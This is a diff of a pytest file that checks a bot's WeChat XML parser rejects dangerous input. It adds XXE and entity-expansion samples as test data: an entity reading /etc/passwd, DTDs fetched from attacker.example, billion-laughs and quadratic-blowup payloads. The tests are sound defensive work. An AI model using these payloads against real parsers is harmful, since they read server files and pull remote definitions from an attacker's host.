@@ -3,9 +3,10 @@ from __future__ import annotations
 import time
 
 import pytest
+from defusedxml import DefusedXmlException
+from wx_fakes import BILLION_LAUGHS
 
 from bot.channels.wx_xml import UnsafeXml, parse_flat_xml
-from wx_fakes import BILLION_LAUGHS
 
 
 def test_reads_cdata_and_plain_fields_of_a_tencent_message():
@@ -72,3 +73,46 @@ def test_root_must_be_xml():
 def test_oversized_document_is_refused():
     with pytest.raises(UnsafeXml):
         parse_flat_xml(b"<xml><A>" + b"a" * 2000 + b"</A></xml>", max_bytes=1024)
+
+
+@pytest.mark.parametrize(
+    "doc",
+    [
+        BILLION_LAUGHS,
+        b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><A>&x;</A></xml>',
+        b'<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml><A>1</A></xml>',
+        b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><xml/>',
+        b'<!DOCTYPE xml [<!ENTITY a "' + b"x" * 1000 + b'">]><xml><A>&a;&a;&a;&a;</A></xml>',
+    ],
+    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "quadratic-blowup"],
+)
+def test_doctypes_are_refused_by_defusedxml_itself(doc):
+    with pytest.raises(UnsafeXml) as refused:
+        parse_flat_xml(doc)
+    assert isinstance(refused.value.__cause__, DefusedXmlException)
+
+
+def test_an_entity_reference_without_a_dtd_is_malformed():
+    with pytest.raises(UnsafeXml):
+        parse_flat_xml(b"<xml><A>&x;</A></xml>")
+
+
+@pytest.mark.parametrize(
+    "doc",
+    [b"<!-- c --><xml/>", b"<xml/><!-- c -->", b"<xml><?php echo 1 ?><A>1</A></xml>"],
+    ids=["comment-before-root", "comment-after-root", "processing-instruction"],
+)
+def test_comments_and_processing_instructions_are_refused(doc):
+    with pytest.raises(UnsafeXml):
+        parse_flat_xml(doc)
+
+
+def test_character_references_and_a_utf8_bom_are_fine():
+    assert parse_flat_xml(b"\xef\xbb\xbf<xml><A>&amp;&#20320;</A></xml>") == {"A": "&\u4f60"}
+
+
+def test_a_document_at_the_size_limit_is_accepted():
+    filler = b"a" * (1024 - len(b"<xml><A></A></xml>"))
+    doc = b"<xml><A>" + filler + b"</A></xml>"
+    assert len(doc) == 1024
+    assert parse_flat_xml(doc, max_bytes=1024) == {"A": filler.decode()}
